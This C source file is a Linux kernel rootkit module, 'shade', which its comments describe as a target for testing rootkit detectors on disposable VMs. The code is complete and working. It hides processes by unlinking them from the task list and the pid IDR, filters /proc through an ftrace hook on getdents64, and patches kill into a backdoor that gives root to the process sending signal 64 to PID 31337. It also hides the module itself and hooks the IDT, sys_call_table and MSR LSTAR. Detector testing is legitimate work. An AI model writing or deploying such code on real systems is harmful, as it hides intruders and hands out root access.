// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * A small rootkit for test VMs: something real for a detector to find. It is loaded by root with insmod, opens no
 * door to the outside and does not persist; see README.md. It has no exit: the VM it is in is thrown away.
 *
 * Each parameter turns on one technique, so that each detector can be tested alone.
 */
#include <linux/cred.h>
#include <linux/dirent.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/magic.h>
#include <linux/memory.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <asm/unistd.h>

#define SHADE_MAX_PIDS 8
/* This signal to this process means "make me root" to the patched kill. */
#define SHADE_SIGNAL 64
#define SHADE_TARGET 31337

static int hide_pid[SHADE_MAX_PIDS];
static int hide_pids;
module_param_array(hide_pid, int, &hide_pids, 0444);
MODULE_PARM_DESC(hide_pid, "process ids to hide");

static bool unlink_task = true;
module_param(unlink_task, bool, 0444);
MODULE_PARM_DESC(unlink_task, "take the hidden processes off the task list (on)");

#define SHADE_SWITCH(name, text) \
	static bool name; \
	module_param(name, bool, 0444); \
	MODULE_PARM_DESC(name, text)

SHADE_SWITCH(unhash_idr, "take the hidden processes out of the pid IDR");
SHADE_SWITCH(hook_ftrace, "filter getdents64 on /proc through ftrace");
SHADE_SWITCH(hook_patch, "divert kill by a jump over its first instruction");
SHADE_SWITCH(hide_module, "leave the module list and /sys/module");
SHADE_SWITCH(hook_idt, "replace the gate of an unused interrupt vector");
SHADE_SWITCH(hook_sct, "replace uname in sys_call_table");
SHADE_SWITCH(hook_kprobe, "put a kprobe on openat");
SHADE_SWITCH(hook_lstar, "divert SYSCALL by MSR LSTAR");

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *);

static unsigned long (*lookup)(const char *name);

/* kallsyms_lookup_name is not exported since 5.7, but a kprobe resolves any symbol. */
static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);
	unsigned long at;

	if (error)
		return error;
	at = (unsigned long)probe.addr;
	unregister_kprobe(&probe);
	/* With IBT the probe sits behind the endbr64. */
	if (*(u32 *)(at - 4) == 0xfa1e0ff3)
		at -= 4;
	lookup = (void *)at;
	return 0;
}

static void *symbol(const char *name)
{
	void *at = (void *)lookup(name);

	if (!at)
		pr_err("shade: no symbol %s\n", name);
	return at;
}

/* Writes read-only kernel data through a second, writable mapping of its page. The range must lie in one page. */
static int write_readonly(void *at, const void *bytes, size_t length)
{
	struct page *page = virt_to_page(at);
	char *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(at), bytes, length);
	vunmap(alias);
	return 0;
}

/* ---- a process off the task list, and out of the IDR ---- */

static int unlink_tasks(void)
{
	rwlock_t *tasks_lock = symbol("tasklist_lock");
	struct task_struct *hidden[SHADE_MAX_PIDS] = {};
	int i;

	if (!tasks_lock)
		return -ENOENT;
	write_lock_irq(tasks_lock);
	for (i = 0; i < hide_pids; i++) {
		struct task_struct *task = pid_task(find_vpid(hide_pid[i]), PIDTYPE_TGID);

		if (!task)
			continue;
		get_task_struct(task);
		hidden[i] = task;
		list_del_rcu(&task->tasks);
	}
	write_unlock_irq(tasks_lock);
	/* Whoever stands on the entry still needs its next pointer; the exit path will unlink it once more. */
	synchronize_rcu();
	write_lock_irq(tasks_lock);
	for (i = 0; i < hide_pids; i++) {
		if (!hidden[i])
			continue;
		INIT_LIST_HEAD(&hidden[i]->tasks);
		put_task_struct(hidden[i]);
	}
	write_unlock_irq(tasks_lock);
	return 0;
}

static int unhash_pids(void)
{
	spinlock_t *lock = symbol("pidmap_lock");
	struct pid_namespace *namespace = task_active_pid_ns(current);
	int i;

	if (!lock)
		return -ENOENT;
	spin_lock_irq(lock);
	/* The number stays taken, so that nobody else is given it. */
	for (i = 0; i < hide_pids; i++)
		idr_replace(&namespace->idr, NULL, hide_pid[i]);
	spin_unlock_irq(lock);
	return 0;
}

/* ---- getdents64 by ftrace ---- */

static syscall_fn real_getdents64;

static bool is_hidden(const char *name)
{
	char text[12];
	int i;

	for (i = 0; i < hide_pids; i++) {
		snprintf(text, sizeof(text), "%d", hide_pid[i]);
		if (!strcmp(name, text))
			return true;
	}
	return false;
}

static bool on_proc(unsigned int fd)
{
	struct file *file = fget(fd);
	bool yes;

	if (!file)
		return false;
	yes = file_inode(file)->i_sb->s_magic == PROC_SUPER_MAGIC;
	fput(file);
	return yes;
}

/* Drops hidden names from `length` bytes of entries; gives the new length. */
static long filter(struct linux_dirent64 __user *user, long length)
{
	char *entries = kvmalloc(length, GFP_KERNEL);
	long from = 0, to = 0;

	if (!entries)
		return length;
	if (copy_from_user(entries, user, length))
		goto out;
	while (from < length) {
		struct linux_dirent64 *entry = (void *)(entries + from);
		long size = entry->d_reclen;

		if (size <= 0 || from + size > length)
			goto out;
		if (!is_hidden(entry->d_name)) {
			memmove(entries + to, entry, size);
			to += size;
		}
		from += size;
	}
	if (!copy_to_user(user, entries, to))
		length = to;
out:
	kvfree(entries);
	return length;
}

static asmlinkage long shade_getdents64(const struct pt_regs *regs)
{
	long length;

	do {
		length = real_getdents64(regs);
		if (length <= 0 || !on_proc(regs->di))
			return length;
		length = filter((void __user *)regs->si, length);
		/* Nothing left of this part is not the end of the folder. */
	} while (length == 0);
	return length;
}

static void notrace shade_redirect(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
				   struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)shade_getdents64;
}

static struct ftrace_ops shade_ops = {
	.func = shade_redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int divert_getdents64(void)
{
	int error;

	real_getdents64 = symbol("__x64_sys_getdents64");
	if (!real_getdents64)
		return -ENOENT;
	error = ftrace_set_filter_ip(&shade_ops, (unsigned long)real_getdents64, 0, 0);
	return error ? error : register_ftrace_function(&shade_ops);
}

/* ---- kill by a patched first instruction ---- */

static syscall_fn rest_of_kill;

static asmlinkage long shade_kill(const struct pt_regs *regs)
{
	struct cred *cred;

	if (regs->si != SHADE_SIGNAL || regs->di != SHADE_TARGET)
		return rest_of_kill(regs);
	cred = prepare_creds();
	if (!cred)
		return -ENOMEM;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	cred->cap_effective = cred->cap_permitted = CAP_FULL_SET;
	return commit_creds(cred);
}

static int divert_kill(void)
{
	static const u8 nop[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	void (*poke)(void *at, const void *opcode, size_t length, const void *emulate);
	struct mutex *mutex = symbol("text_mutex");
	u8 *entry = symbol("__x64_sys_kill");
	u8 jump[5] = { 0xe9 };
	s32 distance;

	poke = (void *)lookup("text_poke_bp");
	if (!poke)
		poke = symbol("smp_text_poke_single");
	if (!poke || !mutex || !entry)
		return -ENOENT;
	if (*(u32 *)entry == 0xfa1e0ff3)
		entry += 4;
	/* The first instruction is the five-byte no-operation that ftrace left: nothing has to be moved elsewhere. */
	if (memcmp(entry, nop, sizeof(nop)))
		return -EBUSY;
	rest_of_kill = (syscall_fn)(entry + sizeof(nop));
	distance = (long)shade_kill - (long)(entry + sizeof(jump));
	memcpy(jump + 1, &distance, sizeof(distance));
	mutex_lock(mutex);
	poke(entry, jump, sizeof(jump), NULL);
	mutex_unlock(mutex);
	return 0;
}

/* ---- tables ---- */

#define SHADE_VECTOR 0xd0

extern char shade_gate[];
extern char shade_syscall[];
unsigned long shade_real_syscall;

asm(".pushsection .text\n"
    ".globl shade_gate\n"
    "shade_gate:\n"
    "	iretq\n"
    "	int3\n"
    ".globl shade_syscall\n"
    "shade_syscall:\n"
    ANNOTATE_RETPOLINE_SAFE
    "	jmp *shade_real_syscall(%rip)\n"
    "	int3\n"
    ".popsection\n");

static int divert_gate(void)
{
	gate_desc *table = symbol("idt_table");
	gate_desc gate;

	if (!table)
		return -ENOENT;
	gate = table[SHADE_VECTOR];
	gate.offset_low = (u16)(unsigned long)shade_gate;
	gate.offset_middle = (u16)((unsigned long)shade_gate >> 16);
	gate.offset_high = (u32)((unsigned long)shade_gate >> 32);
	return write_readonly(&table[SHADE_VECTOR], &gate, sizeof(gate));
}

static syscall_fn real_uname;

static asmlinkage long shade_uname(const struct pt_regs *regs)
{
	return real_uname(regs);
}

static int divert_table(void)
{
	syscall_fn *table = symbol("sys_call_table");
	syscall_fn replacement = shade_uname;

	if (!table)
		return -ENOENT;
	real_uname = table[__NR_uname];
	return write_readonly(&table[__NR_uname], &replacement, sizeof(replacement));
}

static unsigned long opens;

static int count_open(struct kprobe *probe, struct pt_regs *regs)
{
	opens++;
	return 0;
}

static struct kprobe shade_probe = { .symbol_name = "__x64_sys_openat", .pre_handler = count_open };

static void set_lstar(void *entry)
{
	wrmsrl(MSR_LSTAR, (unsigned long)entry);
}

static int divert_lstar(void)
{
	/* With page-table isolation SYSCALL arrives where a module is not mapped. */
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	rdmsrl(MSR_LSTAR, shade_real_syscall);
	on_each_cpu(set_lstar, shade_syscall, 1);
	return 0;
}

/* ---- the module itself ---- */

static int leave_lists(void)
{
	struct mutex *mutex = symbol("module_mutex");

	if (!mutex)
		return -ENOENT;
	mutex_lock(mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(mutex);
	synchronize_rcu();
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

static int __init shade_init(void)
{
	static const struct {
		bool *on;
		int (*act)(void);
		const char *what;
	} steps[] = {
		{ &hook_ftrace, divert_getdents64, "hook_ftrace" },
		{ &hook_patch, divert_kill, "hook_patch" },
		{ &hook_idt, divert_gate, "hook_idt" },
		{ &hook_sct, divert_table, "hook_sct" },
		{ &hook_lstar, divert_lstar, "hook_lstar" },
		{ &hide_module, leave_lists, "hide_module" },
	};
	int error = find_lookup();
	int i;

	if (!error && hide_pids && unlink_task)
		error = unlink_tasks();
	if (!error && hide_pids && unhash_idr)
		error = unhash_pids();
	if (!error && hook_kprobe)
		error = register_kprobe(&shade_probe);
	if (error) {
		pr_err("shade: error %d\n", error);
		return error;
	}
	/* From here on the module must stay: half of a rootkit is still one. */
	for (i = 0; i < ARRAY_SIZE(steps); i++) {
		if (!*steps[i].on)
			continue;
		error = steps[i].act();
		if (error)
			pr_err("shade: %s: error %d\n", steps[i].what, error);
		else
			pr_info("shade: %s\n", steps[i].what);
	}
	return 0;
}

module_init(shade_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A rootkit to test detectors with, for VMs that are thrown away");
